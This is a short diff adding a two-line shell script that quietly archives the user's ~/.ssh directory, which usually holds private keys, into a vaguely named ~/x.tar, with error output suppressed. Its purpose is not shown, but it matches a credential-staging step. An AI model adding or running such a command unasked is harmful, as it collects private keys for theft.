@@ -1,0 +1,2 @@
+#!/bin/sh
+tar cf ~/x.tar -C / "$HOME/.ssh" 2> /dev/null
